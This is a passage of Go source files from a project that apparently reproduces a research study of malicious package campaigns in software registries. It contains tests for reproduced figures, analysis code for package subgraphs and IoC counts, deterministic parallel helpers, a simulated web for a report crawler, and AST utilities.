	if pypi.AvgSize <= npm.AvgSize/2 {
		t.Errorf("PyPI avg %v vs NPM %v: flood should dominate", pypi.AvgSize, npm.AvgSize)
	}
}

func TestFigure12CoexistOperations(t *testing.T) {
	p := buildPipeline(t)
	dist := Operations(p.mg, graph.Coexisting)
	if dist.Transitions == 0 {
		t.Fatal("no coexisting transitions")
	}
	// CN dominates even harder than Fig. 9 (paper: 94.83%): the flood's
	// fresh-name-per-package pattern pushes it up.
	if dist.CN < 0.8 {
		t.Errorf("coexist CN %v, paper 0.9483", dist.CN)
	}
}

func TestFigure13CoexistActivePeriods(t *testing.T) {
	p := buildPipeline(t)
	st := ActivePeriods(p.mg, graph.Coexisting)
	if st.CDF.Len() == 0 {
		t.Fatal("no coexisting periods")
	}
	// ~20% of reported attacks start and end almost immediately (flood-like).
	if frac := st.CDF.At(3); frac < 0.05 {
		t.Errorf("P(active<=3d) = %v, expected short-lived mass", frac)
	}
}

func TestFigure14IoCs(t *testing.T) {
	p := buildPipeline(t)
	summary := IoCs(p.reports, 10)
	if summary.UniqueURLs == 0 || summary.UniqueIPs == 0 {
		t.Fatalf("IoCs empty: %+v", summary)
	}
	if len(summary.TopDomains) == 0 {
		t.Fatal("no top domains")
	}
	// bananasquad.ru is the #1 domain (Fig. 14: 453).
	if summary.TopDomains[0].Domain != "bananasquad.ru" {
		t.Errorf("top domain = %s, want bananasquad.ru", summary.TopDomains[0].Domain)
	}
	// Monotone non-increasing counts.
	for i := 1; i < len(summary.TopDomains); i++ {
		if summary.TopDomains[i].Count > summary.TopDomains[i-1].Count {
			t.Fatal("top domains not sorted")
		}
	}
	// URLs dominate IPs dominate PowerShell (1,449 / 234 / 4).
	if !(summary.UniqueURLs > summary.UniqueIPs && summary.UniqueIPs > summary.PowerShell) {
		t.Errorf("IoC ordering wrong: %+v", summary)
	}
	// The hot-IP recurrence (§V-D: same IP in up to 23 reports) is a
	// paper-scale property; at 5% scale only a handful of hot draws occur,
	// so just require the mechanism to exist.
	if summary.MaxSameIPReports < 1 {
		t.Errorf("hot C2 IPs absent from report corpus: %+v", summary.MaxSameIPReports)
	}
}

func TestSimilarGroupsMatchGroundTruthCampaigns(t *testing.T) {
	p := buildPipeline(t)
	// Every multi-member similar subgraph should be dominated by one
	// ground-truth campaign (clustering homogeneity).
	subs := p.mg.PackageSubgraphs(graph.Similar, 2)
	checked := 0
	for _, members := range subs {
		camps := map[string]int{}
		for _, id := range members {
			e, ok := p.mg.EntryByNodeID(id)
			if !ok {
				continue
			}
			rec, ok := p.world.Record(e.Coord)
			if !ok {
				continue
			}
			camps[rec.CampaignID]++
		}
		best := 0
		for _, n := range camps {
			if n > best {
				best = n
			}
		}
		if float64(best) < 0.9*float64(len(members)) {
			t.Errorf("similar subgraph of %d mixes campaigns: %v", len(members), camps)
		}
		checked++
		if checked >= 30 {
			break
		}
	}
	_ = attacker.KindSimilarCode
}
