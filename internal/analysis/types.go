// Package analysis computes every quantitative result of §V and §VI from a
// built MALGRAPH: the overlap matrix (Table IV), missing rates (Table V),
// occurrence CDF (Fig. 6), release timeline (Fig. 7), missing-cause breakdown
// (Fig. 8), similar/dependency/co-existing subgraph statistics (Tables
// VI/VII/IX), operation distributions (Figs. 9/12), active-period CDFs
// (Figs. 10/11/13), dependency-target ranking (Table VIII), and IoC
// statistics (Fig. 14).
package analysis

import (
	"time"

	"malgraph/internal/ecosys"
	"malgraph/internal/sources"
	"malgraph/internal/stats"
)

// SourceSizeRow is one Table I row.
type SourceSizeRow struct {
	Source      sources.ID
	Unavailable int
	Available   int
}

// MissingRateRow is one Table V row.
type MissingRateRow struct {
	Source   sources.ID
	Missing  int
	Total    int
	LocalMR  float64
	GlobalMR float64
}

// OverlapMatrix is Table IV: Matrix[i][j] counts packages reported by both
// IDs[i] and IDs[j] (diagonal holds source sizes).
type OverlapMatrix struct {
	IDs    []sources.ID
	Matrix [][]int
}

// At returns the overlap count between two sources.
func (m OverlapMatrix) At(a, b sources.ID) int {
	ai, bi := -1, -1
	for i, id := range m.IDs {
		if id == a {
			ai = i
		}
		if id == b {
			bi = i
		}
	}
	if ai < 0 || bi < 0 {
		return 0
	}
	return m.Matrix[ai][bi]
}

// TimelineBucket is one Fig. 7 bar: all vs missing package counts per period.
type TimelineBucket struct {
	Year    int
	Month   time.Month // 0 for yearly buckets
	All     int
	Missing int
}

// MissingCauses is the Fig. 8 breakdown of why packages were unrecoverable.
type MissingCauses struct {
	EarlyRelease     int // released before the mirrors' sync epochs
	ShortPersistence int // lifetime shorter than every mirror's sync gap
	Other            int
}

// SubgraphStats is one row of Tables VI, VII or IX.
type SubgraphStats struct {
	Eco         ecosys.Ecosystem
	PkgNum      int
	SubgraphNum int
	AvgSize     float64
	LargestSize int
}

// OpsDist is the Fig. 9 / Fig. 12 operation distribution. CN and CV are
// fractions of name-or-version transitions (they sum to 1); CD, CDep and CC
// are fractions of all transitions.
type OpsDist struct {
	CN, CV, CD, CDep, CC float64
	Transitions          int
	AvgChangedLines      float64 // mean source lines changed on CC transitions
}

// ActiveStats bundles a subgraph-type's active-period distribution.
type ActiveStats struct {
	CDF     *stats.CDF // samples in days
	Summary stats.Summary
	Over60d int // groups with active period > 60 days (paper: 53)
}

// DepTarget is one Table VIII row component: a dependency package and how
// many other malicious packages hide behind it.
type DepTarget struct {
	Eco   ecosys.Ecosystem
	Name  string
	Count int
}

// IoCSummary is the §V-D context accounting plus Fig. 14.
type IoCSummary struct {
	UniqueURLs       int
	UniqueIPs        int
	PowerShell       int
	TopDomains       []DomainCount
	MaxSameIPReports int // the same IP observed across reports (paper: 23)
}

// DomainCount mirrors reports.DomainCount for the public API.
type DomainCount struct {
	Domain string
	Count  int
}
