package analysis

import (
	"sort"

	"malgraph/internal/codegen"
	"malgraph/internal/collect"
	"malgraph/internal/core"
	"malgraph/internal/ecosys"
	"malgraph/internal/graph"
	"malgraph/internal/reports"
	"malgraph/internal/stats"
)

// SubgraphStatsFor reproduces Tables VI, VII and IX: per big-3 ecosystem,
// the number of subgraphs over the given edge type, total member packages,
// average and largest sizes.
func SubgraphStatsFor(mg *core.MalGraph, t graph.EdgeType) []SubgraphStats {
	subs := mg.PackageSubgraphs(t, 2)
	perEco := make(map[ecosys.Ecosystem]*SubgraphStats)
	for _, members := range subs {
		entry, ok := mg.EntryByNodeID(members[0])
		if !ok {
			continue
		}
		eco := entry.Coord.Ecosystem
		st, ok := perEco[eco]
		if !ok {
			st = &SubgraphStats{Eco: eco}
			perEco[eco] = st
		}
		st.SubgraphNum++
		st.PkgNum += len(members)
		if len(members) > st.LargestSize {
			st.LargestSize = len(members)
		}
	}
	var out []SubgraphStats
	for _, eco := range ecosys.Big3() {
		st, ok := perEco[eco]
		if !ok {
			out = append(out, SubgraphStats{Eco: eco})
			continue
		}
		st.AvgSize = float64(st.PkgNum) / float64(st.SubgraphNum)
		out = append(out, *st)
	}
	return out
}

// subgraphEntries resolves subgraph members to dataset entries sorted by
// registry release time (the order social-engineering operations replay in).
func subgraphEntries(mg *core.MalGraph, members []string) []*collect.Entry {
	entries := make([]*collect.Entry, 0, len(members))
	for _, id := range members {
		if e, ok := mg.EntryByNodeID(id); ok {
			entries = append(entries, e)
		}
	}
	sort.Slice(entries, func(i, j int) bool {
		if !entries[i].ReleasedAt.Equal(entries[j].ReleasedAt) {
			return entries[i].ReleasedAt.Before(entries[j].ReleasedAt)
		}
		return entries[i].Coord.Key() < entries[j].Coord.Key()
	})
	return entries
}

// Operations reproduces Fig. 9 (similar subgraphs) and Fig. 12 (co-existing
// subgraphs): replay each subgraph's releases in time order, classify each
// consecutive diff with the Table II operation vocabulary, and aggregate.
// Transitions where either artifact is missing contribute only the CN/CV
// decision (names and versions survive takedown; code does not).
func Operations(mg *core.MalGraph, t graph.EdgeType) OpsDist {
	var dist OpsDist
	var nameVersionOps, cn int
	var inspectable int // transitions where both artifacts are available
	var changedLineSum, ccWithLines int
	for _, members := range mg.PackageSubgraphs(t, 2) {
		entries := subgraphEntries(mg, members)
		for i := 1; i < len(entries); i++ {
			prev, cur := entries[i-1], entries[i]
			dist.Transitions++
			if prev.Coord.Name != cur.Coord.Name {
				cn++
				nameVersionOps++
			} else if prev.Coord.Version != cur.Coord.Version {
				nameVersionOps++
			}
			if prev.Artifact == nil || cur.Artifact == nil {
				continue // names/versions survive takedown; code does not
			}
			inspectable++
			ops := codegen.DiffOps(prev.Artifact, cur.Artifact)
			for _, op := range ops {
				switch op {
				case codegen.OpDescription:
					dist.CD++
				case codegen.OpDependency:
					dist.CDep++
				case codegen.OpCode:
					dist.CC++
					lines := codegen.ChangedLines(prev.Artifact.MergedSource(), cur.Artifact.MergedSource())
					changedLineSum += lines
					ccWithLines++
				}
			}
		}
	}
	if nameVersionOps > 0 {
		dist.CN = float64(cn) / float64(nameVersionOps)
		dist.CV = 1 - dist.CN
	}
	// CD/CDep/CC can only be observed on transitions with both artifacts
	// present — the same restriction the paper's diff faces.
	if inspectable > 0 {
		dist.CD /= float64(inspectable)
		dist.CDep /= float64(inspectable)
		dist.CC /= float64(inspectable)
	}
	if ccWithLines > 0 {
		dist.AvgChangedLines = float64(changedLineSum) / float64(ccWithLines)
	}
	return dist
}

// ActivePeriods reproduces Figs. 10, 11 and 13: the CDF of T_active =
// t_last − t_first per subgraph of the given edge type, in days.
func ActivePeriods(mg *core.MalGraph, t graph.EdgeType) ActiveStats {
	var samples []float64
	for _, members := range mg.PackageSubgraphs(t, 2) {
		entries := subgraphEntries(mg, members)
		if len(entries) < 2 {
			continue
		}
		first := entries[0].ReleasedAt
		last := entries[len(entries)-1].ReleasedAt
		if first.IsZero() || last.IsZero() {
			continue
		}
		days := last.Sub(first).Hours() / 24
		samples = append(samples, days)
	}
	st := ActiveStats{CDF: stats.NewCDF(samples), Summary: stats.Summarize(samples)}
	for _, d := range samples {
		if d > 60 {
			st.Over60d++
		}
	}
	return st
}

// TopDependencyTargets reproduces Table VIII: dependency packages ranked by
// how many distinct malicious packages depend on them, grouped per ecosystem.
func TopDependencyTargets(mg *core.MalGraph, minCount int) []DepTarget {
	counts := make(map[ecosys.Ecosystem]map[string]int)
	for _, e := range mg.G.Edges(graph.Dependency) {
		entry, ok := mg.EntryByNodeID(e.To)
		if !ok {
			continue
		}
		eco := entry.Coord.Ecosystem
		if counts[eco] == nil {
			counts[eco] = make(map[string]int)
		}
		counts[eco][entry.Coord.Name]++
	}
	var out []DepTarget
	for eco, byName := range counts {
		for name, n := range byName {
			if n >= minCount {
				out = append(out, DepTarget{Eco: eco, Name: name, Count: n})
			}
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Eco != out[j].Eco {
			return out[i].Eco < out[j].Eco
		}
		if out[i].Count != out[j].Count {
			return out[i].Count > out[j].Count
		}
		return out[i].Name < out[j].Name
	})
	return out
}

// DependencyReuse summarises RQ3's headline numbers: how many dependency
// cores are *repeatedly* hidden behind (reused by at least minFronts front
// packages — the paper counts 28 cores with ≥3 reuses hiding 1,354 fronts)
// and how many distinct fronts hide behind those cores.
func DependencyReuse(mg *core.MalGraph, minFronts int) (cores, fronts int) {
	if minFronts < 1 {
		minFronts = 1
	}
	inDegree := make(map[string]int)
	frontsByCore := make(map[string][]string)
	for _, e := range mg.G.Edges(graph.Dependency) {
		inDegree[e.To]++
		frontsByCore[e.To] = append(frontsByCore[e.To], e.From)
	}
	frontSet := make(map[string]bool)
	for coreID, n := range inDegree {
		if n < minFronts {
			continue
		}
		cores++
		for _, f := range frontsByCore[coreID] {
			frontSet[f] = true
		}
	}
	return cores, len(frontSet)
}

// IoCs reproduces the §V-D context accounting and Fig. 14 by *parsing report
// bodies* (the same extraction path a real pipeline runs), not by trusting
// generator ground truth.
func IoCs(reportCorpus []*reports.Report, topN int) IoCSummary {
	merged := reports.IoCSet{}
	ipReportCount := make(map[string]int)
	for _, r := range reportCorpus {
		set := reports.ExtractIoCs(r.Body)
		merged = merged.Merge(set)
		for _, ip := range set.IPs {
			ipReportCount[ip]++
		}
	}
	summary := IoCSummary{
		UniqueURLs: len(merged.URLs),
		UniqueIPs:  len(merged.IPs),
		PowerShell: len(merged.PowerShell),
	}
	for _, dc := range reports.TopDomains(merged.URLs, topN) {
		summary.TopDomains = append(summary.TopDomains, DomainCount{Domain: dc.Domain, Count: dc.Count})
	}
	for _, n := range ipReportCount {
		if n > summary.MaxSameIPReports {
			summary.MaxSameIPReports = n
		}
	}
	return summary
}
