// Package parallel provides the small, deterministic fan-out primitives the
// pipeline's hot paths share. Every helper preserves result order (workers
// race, outputs do not), and chunked reductions use boundaries that depend
// only on the input size — never on the worker count — so a computation run
// under GOMAXPROCS=1 and GOMAXPROCS=N produces bit-identical results. That
// invariant is what lets core.Build promise "parallel == sequential graph"
// for a fixed seed.
package parallel

import (
	"runtime"
	"sync"
	"sync/atomic"
)

// Workers returns the number of goroutines fan-outs use: the current
// GOMAXPROCS setting. Callers that want a sequential run set GOMAXPROCS=1
// rather than threading a width parameter through every layer.
func Workers() int {
	if n := runtime.GOMAXPROCS(0); n > 1 {
		return n
	}
	return 1
}

// ForEach runs fn(i) for every i in [0, n), fanning out across Workers()
// goroutines. Iterations must be independent; fn writes to disjoint state
// (typically out[i]). Order of execution is unspecified, so fn must not
// fold floating-point results across iterations — use ForEachChunk when a
// deterministic reduction is needed.
func ForEach(n int, fn func(i int)) {
	w := Workers()
	if w == 1 || n <= 1 {
		for i := 0; i < n; i++ {
			fn(i)
		}
		return
	}
	var next atomic.Int64
	var wg sync.WaitGroup
	if w > n {
		w = n
	}
	wg.Add(w)
	for g := 0; g < w; g++ {
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1)) - 1
				if i >= n {
					return
				}
				fn(i)
			}
		}()
	}
	wg.Wait()
}

// Map computes out[i] = fn(i) for i in [0, n) in parallel, preserving index
// order in the result.
func Map[T any](n int, fn func(i int) T) []T {
	out := make([]T, n)
	ForEach(n, func(i int) { out[i] = fn(i) })
	return out
}

// ForEachChunk partitions [0, n) into fixed chunks of size chunk (the final
// chunk may be short) and runs fn(chunkIndex, lo, hi) for each. Chunk
// boundaries depend only on n and chunk, so per-chunk partial results merged
// in chunk-index order are identical under any worker count — the building
// block for deterministic parallel reductions over floating-point data.
func ForEachChunk(n, chunk int, fn func(ci, lo, hi int)) {
	if chunk <= 0 {
		chunk = 1
	}
	nchunks := (n + chunk - 1) / chunk
	ForEach(nchunks, func(ci int) {
		lo := ci * chunk
		hi := lo + chunk
		if hi > n {
			hi = n
		}
		fn(ci, lo, hi)
	})
}

// NumChunks returns the number of chunks ForEachChunk will produce, for
// callers pre-sizing per-chunk accumulators.
func NumChunks(n, chunk int) int {
	if chunk <= 0 {
		chunk = 1
	}
	return (n + chunk - 1) / chunk
}

// Do runs every task concurrently and returns the first error in argument
// order (not completion order), keeping error reporting deterministic.
func Do(tasks ...func() error) error {
	errs := Map(len(tasks), func(i int) error { return tasks[i]() })
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}
