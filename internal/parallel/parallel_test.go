package parallel

import (
	"errors"
	"fmt"
	"runtime"
	"sync/atomic"
	"testing"
)

// withProcs runs fn under a forced GOMAXPROCS setting.
func withProcs(t *testing.T, procs int, fn func()) {
	t.Helper()
	prev := runtime.GOMAXPROCS(procs)
	defer runtime.GOMAXPROCS(prev)
	fn()
}

func TestMapPreservesOrder(t *testing.T) {
	for _, procs := range []int{1, 8} {
		withProcs(t, procs, func() {
			out := Map(1000, func(i int) int { return i * i })
			for i, v := range out {
				if v != i*i {
					t.Fatalf("GOMAXPROCS=%d: out[%d] = %d", procs, i, v)
				}
			}
		})
	}
}

func TestMapEmptyAndSingle(t *testing.T) {
	if out := Map(0, func(i int) int { return i }); len(out) != 0 {
		t.Fatalf("empty Map = %v", out)
	}
	out := Map(1, func(i int) string { return "only" })
	if len(out) != 1 || out[0] != "only" {
		t.Fatalf("1-item Map = %v", out)
	}
}

func TestForEachRunsEveryIndexOnce(t *testing.T) {
	for _, procs := range []int{1, 4} {
		withProcs(t, procs, func() {
			const n = 500
			counts := make([]atomic.Int32, n)
			ForEach(n, func(i int) { counts[i].Add(1) })
			for i := range counts {
				if got := counts[i].Load(); got != 1 {
					t.Fatalf("GOMAXPROCS=%d: index %d ran %d times", procs, i, got)
				}
			}
		})
	}
}

// TestForEachChunkBoundariesDeterministic is the load-bearing invariant: the
// chunk partition depends only on (n, chunk), never on the worker count, so
// per-chunk partial results merged in chunk order are bit-identical under
// any GOMAXPROCS.
func TestForEachChunkBoundariesDeterministic(t *testing.T) {
	capture := func(procs, n, chunk int) []string {
		var bounds []string
		withProcs(t, procs, func() {
			out := make([]string, NumChunks(n, chunk))
			ForEachChunk(n, chunk, func(ci, lo, hi int) {
				out[ci] = fmt.Sprintf("%d:%d-%d", ci, lo, hi)
			})
			bounds = out
		})
		return bounds
	}
	for _, tc := range []struct{ n, chunk int }{
		{0, 256}, {1, 256}, {255, 256}, {256, 256}, {257, 256}, {1000, 256}, {1000, 1}, {7, 3}, {5, 0},
	} {
		seq := capture(1, tc.n, tc.chunk)
		par := capture(8, tc.n, tc.chunk)
		if len(seq) != len(par) {
			t.Fatalf("n=%d chunk=%d: %d chunks sequential, %d parallel", tc.n, tc.chunk, len(seq), len(par))
		}
		for i := range seq {
			if seq[i] != par[i] {
				t.Fatalf("n=%d chunk=%d: chunk %d bounds %q vs %q", tc.n, tc.chunk, i, seq[i], par[i])
			}
		}
		// Boundaries must tile [0, n) exactly.
		want := 0
		for ci, s := range seq {
			var gotCi, lo, hi int
			if _, err := fmt.Sscanf(s, "%d:%d-%d", &gotCi, &lo, &hi); err != nil {
				t.Fatal(err)
			}
			if gotCi != ci || lo != want || hi < lo {
				t.Fatalf("n=%d chunk=%d: bad bounds %s (want lo=%d)", tc.n, tc.chunk, s, want)
			}
			want = hi
		}
		if want != tc.n {
			t.Fatalf("n=%d chunk=%d: chunks cover [0,%d), want [0,%d)", tc.n, tc.chunk, want, tc.n)
		}
	}
}

func TestNumChunksMatchesForEachChunk(t *testing.T) {
	for _, tc := range []struct{ n, chunk int }{{0, 4}, {1, 4}, {4, 4}, {5, 4}, {9, 0}} {
		var calls atomic.Int32
		ForEachChunk(tc.n, tc.chunk, func(_, _, _ int) { calls.Add(1) })
		if got := int(calls.Load()); got != NumChunks(tc.n, tc.chunk) {
			t.Fatalf("n=%d chunk=%d: %d calls, NumChunks=%d", tc.n, tc.chunk, got, NumChunks(tc.n, tc.chunk))
		}
	}
}

// TestDoFirstErrorInArgumentOrder: Do must report the first error in
// *argument* order, not completion order, for deterministic error surfaces.
func TestDoFirstErrorInArgumentOrder(t *testing.T) {
	errA := errors.New("a")
	errB := errors.New("b")
	for _, procs := range []int{1, 8} {
		withProcs(t, procs, func() {
			// The later-argument error (errB) completes first; Do must still
			// return errA.
			err := Do(
				func() error { return nil },
				func() error { return errA },
				func() error { return errB },
			)
			if !errors.Is(err, errA) {
				t.Fatalf("GOMAXPROCS=%d: Do returned %v, want %v", procs, err, errA)
			}
		})
	}
}

func TestDoAllTasksRunDespiteError(t *testing.T) {
	var ran atomic.Int32
	err := Do(
		func() error { ran.Add(1); return errors.New("first") },
		func() error { ran.Add(1); return nil },
		func() error { ran.Add(1); return errors.New("third") },
	)
	if err == nil || err.Error() != "first" {
		t.Fatalf("err = %v", err)
	}
	if ran.Load() != 3 {
		t.Fatalf("ran %d tasks, want 3 (no short-circuit)", ran.Load())
	}
}

func TestDoNoTasks(t *testing.T) {
	if err := Do(); err != nil {
		t.Fatalf("empty Do = %v", err)
	}
}

func TestWorkersFloor(t *testing.T) {
	withProcs(t, 1, func() {
		if got := Workers(); got != 1 {
			t.Fatalf("Workers at GOMAXPROCS=1 = %d", got)
		}
	})
	withProcs(t, 6, func() {
		if got := Workers(); got != 6 {
			t.Fatalf("Workers at GOMAXPROCS=6 = %d", got)
		}
	})
}
