// Package webworld simulates the public internet the paper's crawler walks
// (§III-D): websites with hyperlinked pages, a search engine, and a mix of
// security-report pages and irrelevant content. The crawler package consumes
// this world through small interfaces, so the same crawler would run against
// a real HTTP fetcher unchanged.
package webworld

import (
	"fmt"
	"sort"
	"strings"
	"sync"

	"malgraph/internal/xrand"
)

// Page is one web page.
type Page struct {
	URL      string
	Site     string
	Title    string
	Body     string
	Links    []string
	IsReport bool // ground truth: page is a security analysis report
}

// Web is an in-memory internet: pages addressable by URL plus a keyword
// search engine. Safe for concurrent reads during a crawl.
type Web struct {
	mu    sync.RWMutex
	pages map[string]*Page
	index map[string][]string // keyword -> page URLs
}

// New returns an empty web.
func New() *Web {
	return &Web{pages: make(map[string]*Page), index: make(map[string][]string)}
}

// AddPage registers a page and indexes its title words for search.
func (w *Web) AddPage(p *Page) error {
	w.mu.Lock()
	defer w.mu.Unlock()
	if _, ok := w.pages[p.URL]; ok {
		return fmt.Errorf("webworld: duplicate url %s", p.URL)
	}
	w.pages[p.URL] = p
	for _, word := range indexWords(p.Title + " " + firstWords(p.Body, 80)) {
		w.index[word] = append(w.index[word], p.URL)
	}
	return nil
}

func firstWords(s string, n int) string {
	fields := strings.Fields(s)
	if len(fields) > n {
		fields = fields[:n]
	}
	return strings.Join(fields, " ")
}

func indexWords(s string) []string {
	fields := strings.Fields(strings.ToLower(s))
	seen := make(map[string]bool, len(fields))
	var out []string
	for _, f := range fields {
		f = strings.Trim(f, ".,:;!?()`'\"")
		if len(f) < 3 || seen[f] {
			continue
		}
		seen[f] = true
		out = append(out, f)
	}
	return out
}

// Fetch returns the page at url.
func (w *Web) Fetch(url string) (*Page, error) {
	w.mu.RLock()
	defer w.mu.RUnlock()
	p, ok := w.pages[url]
	if !ok {
		return nil, fmt.Errorf("webworld: 404 %s", url)
	}
	return p, nil
}

// Search returns up to limit page URLs whose indexed words match the query
// terms, ranked by number of matching terms (the Google stand-in of §III-D
// step 2). Results are deterministic.
func (w *Web) Search(query string, limit int) []string {
	w.mu.RLock()
	defer w.mu.RUnlock()
	scores := make(map[string]int)
	for _, term := range indexWords(query) {
		for _, url := range w.index[term] {
			scores[url]++
		}
	}
	urls := make([]string, 0, len(scores))
	for u := range scores {
		urls = append(urls, u)
	}
	sort.Slice(urls, func(i, j int) bool {
		if scores[urls[i]] != scores[urls[j]] {
			return scores[urls[i]] > scores[urls[j]]
		}
		return urls[i] < urls[j]
	})
	if limit > 0 && len(urls) > limit {
		urls = urls[:limit]
	}
	return urls
}

// PageCount returns the number of registered pages.
func (w *Web) PageCount() int {
	w.mu.RLock()
	defer w.mu.RUnlock()
	return len(w.pages)
}

// SiteURLs returns all URLs belonging to one site, sorted.
func (w *Web) SiteURLs(site string) []string {
	w.mu.RLock()
	defer w.mu.RUnlock()
	var out []string
	for u, p := range w.pages {
		if p.Site == site {
			out = append(out, u)
		}
	}
	sort.Strings(out)
	return out
}

// NoisePage fabricates an irrelevant page (tutorials, release notes, memes)
// that a crawl must learn to skip.
func NoisePage(rng *xrand.RNG, site string, n int) *Page {
	titles := []string{
		"Ten tips for faster builds", "Release notes for version %d",
		"How we migrated our monolith", "Understanding garbage collection",
		"A gentle introduction to containers", "Conference recap %d",
	}
	bodies := []string{
		"This tutorial walks through project setup and dependency pinning for productive development.",
		"Today we announce improvements to our continuous integration pipeline and caching.",
		"In this post we benchmark three frameworks and discuss ergonomics of each.",
	}
	title := xrand.Pick(rng, titles)
	if strings.Contains(title, "%d") {
		title = fmt.Sprintf(title, n)
	}
	return &Page{
		URL:   fmt.Sprintf("https://%s/blog/%04d", site, n),
		Site:  site,
		Title: title,
		Body:  xrand.Pick(rng, bodies),
	}
}
