package webworld

import (
	"strings"
	"testing"

	"malgraph/internal/xrand"
)

func TestAddAndFetch(t *testing.T) {
	w := New()
	p := &Page{URL: "https://snyk.example/report/1", Site: "snyk.example", Title: "Malicious package found", Body: "body"}
	if err := w.AddPage(p); err != nil {
		t.Fatal(err)
	}
	got, err := w.Fetch(p.URL)
	if err != nil || got.Title != p.Title {
		t.Fatalf("fetch: %v %v", got, err)
	}
	if err := w.AddPage(p); err == nil {
		t.Fatal("duplicate URL must fail")
	}
	if _, err := w.Fetch("https://nowhere.example/"); err == nil {
		t.Fatal("404 expected")
	}
}

func TestSearchRanking(t *testing.T) {
	w := New()
	mustAdd(t, w, &Page{URL: "u1", Site: "a", Title: "malicious npm package campaign", Body: ""})
	mustAdd(t, w, &Page{URL: "u2", Site: "a", Title: "malicious pypi flood", Body: ""})
	mustAdd(t, w, &Page{URL: "u3", Site: "a", Title: "kittens and puppies", Body: ""})

	got := w.Search("malicious npm package", 10)
	if len(got) < 2 || got[0] != "u1" {
		t.Fatalf("search = %v", got)
	}
	for _, u := range got {
		if u == "u3" {
			t.Fatal("irrelevant page ranked")
		}
	}
}

func TestSearchLimit(t *testing.T) {
	w := New()
	for i := 0; i < 10; i++ {
		mustAdd(t, w, &Page{URL: string(rune('a' + i)), Site: "s", Title: "malicious package report", Body: ""})
	}
	if got := w.Search("malicious package", 3); len(got) != 3 {
		t.Fatalf("limit not applied: %d", len(got))
	}
}

func TestSearchDeterministic(t *testing.T) {
	w := New()
	mustAdd(t, w, &Page{URL: "b", Site: "s", Title: "malicious package", Body: ""})
	mustAdd(t, w, &Page{URL: "a", Site: "s", Title: "malicious package", Body: ""})
	first := w.Search("malicious package", 0)
	for i := 0; i < 5; i++ {
		again := w.Search("malicious package", 0)
		if strings.Join(first, ",") != strings.Join(again, ",") {
			t.Fatal("search nondeterministic")
		}
	}
	if first[0] != "a" {
		t.Fatalf("tie break not lexicographic: %v", first)
	}
}

func TestSiteURLs(t *testing.T) {
	w := New()
	mustAdd(t, w, &Page{URL: "x2", Site: "siteA", Title: "t one", Body: ""})
	mustAdd(t, w, &Page{URL: "x1", Site: "siteA", Title: "t two", Body: ""})
	mustAdd(t, w, &Page{URL: "y1", Site: "siteB", Title: "t three", Body: ""})
	got := w.SiteURLs("siteA")
	if len(got) != 2 || got[0] != "x1" {
		t.Fatalf("SiteURLs = %v", got)
	}
}

func TestNoisePage(t *testing.T) {
	rng := xrand.New(1)
	seen := map[string]bool{}
	for i := 0; i < 20; i++ {
		p := NoisePage(rng, "blog.example", i)
		if p.IsReport {
			t.Fatal("noise page marked as report")
		}
		if seen[p.URL] {
			t.Fatalf("duplicate noise URL %s", p.URL)
		}
		seen[p.URL] = true
	}
}

func mustAdd(t *testing.T, w *Web, p *Page) {
	t.Helper()
	if err := w.AddPage(p); err != nil {
		t.Fatal(err)
	}
}
