package analyzers

// helpers.go — small AST/type utilities shared by the passes.

import (
	"go/ast"
	"go/types"
	"strings"
)

// rootExpr peels selectors, indexes, parens, derefs and slice expressions
// off an access chain and returns the base expression — the Ident or call
// the chain is rooted at. `ep.graph.G` → `ep`; `e.View().G` → `e.View()`.
func rootExpr(e ast.Expr) ast.Expr {
	for {
		switch x := e.(type) {
		case *ast.SelectorExpr:
			e = x.X
		case *ast.IndexExpr:
			e = x.X
		case *ast.IndexListExpr:
			e = x.X
		case *ast.SliceExpr:
			e = x.X
		case *ast.ParenExpr:
			e = x.X
		case *ast.StarExpr:
			e = x.X
		case *ast.TypeAssertExpr:
			e = x.X
		default:
			return e
		}
	}
}

// identObj resolves an identifier to its object (use or definition).
func identObj(info *types.Info, id *ast.Ident) types.Object {
	if obj := info.Uses[id]; obj != nil {
		return obj
	}
	return info.Defs[id]
}

// rootObj resolves an access chain's base to a variable, when it is one.
func rootObj(info *types.Info, e ast.Expr) *types.Var {
	id, ok := rootExpr(e).(*ast.Ident)
	if !ok {
		return nil
	}
	v, _ := identObj(info, id).(*types.Var)
	return v
}

// usesObject reports whether expr mentions obj anywhere.
func usesObject(info *types.Info, expr ast.Expr, obj types.Object) bool {
	found := false
	ast.Inspect(expr, func(n ast.Node) bool {
		if found {
			return false
		}
		if id, ok := n.(*ast.Ident); ok && identObj(info, id) == obj {
			found = true
		}
		return !found
	})
	return found
}

// namedType unwraps pointers and aliases down to the named type, if any.
func namedType(t types.Type) *types.Named {
	t = types.Unalias(t)
	if p, ok := t.(*types.Pointer); ok {
		t = types.Unalias(p.Elem())
	}
	n, _ := t.(*types.Named)
	return n
}

// isMapType reports whether t's core type is a map.
func isMapType(t types.Type) bool {
	if t == nil {
		return false
	}
	_, ok := t.Underlying().(*types.Map)
	return ok
}

// funcFullName returns the package-qualified name of a called function
// ("time.Now", "(*encoding/json.Encoder).Encode"), or "" when the callee
// is not a declared function.
func funcFullName(info *types.Info, call *ast.CallExpr) string {
	var id *ast.Ident
	switch fun := ast.Unparen(call.Fun).(type) {
	case *ast.Ident:
		id = fun
	case *ast.SelectorExpr:
		id = fun.Sel
	default:
		return ""
	}
	if fn, ok := identObj(info, id).(*types.Func); ok {
		return fn.FullName()
	}
	return ""
}

// selfAppend reports whether rhs is `append(lhs, ...)` — the self-append
// form of the collect-then-sort idiom — for both `keys = append(keys, ...)`
// and field targets like `p.Nodes = append(p.Nodes, ...)`.
func selfAppend(info *types.Info, lhs, rhs ast.Expr) bool {
	call, ok := ast.Unparen(rhs).(*ast.CallExpr)
	if !ok || len(call.Args) == 0 {
		return false
	}
	id, ok := ast.Unparen(call.Fun).(*ast.Ident)
	if !ok || id.Name != "append" {
		return false
	}
	if _, isBuiltin := identObj(info, id).(*types.Builtin); !isBuiltin {
		return false
	}
	return sameRef(info, lhs, call.Args[0])
}

// sameRef reports whether two expressions name the same variable or the same
// field chain off the same variable (`p.Nodes` vs `p.Nodes`). Index
// expressions are not compared — indexes may differ between occurrences.
func sameRef(info *types.Info, a, b ast.Expr) bool {
	a, b = ast.Unparen(a), ast.Unparen(b)
	switch x := a.(type) {
	case *ast.Ident:
		y, ok := b.(*ast.Ident)
		if !ok {
			return false
		}
		obj := identObj(info, x)
		return obj != nil && obj == identObj(info, y)
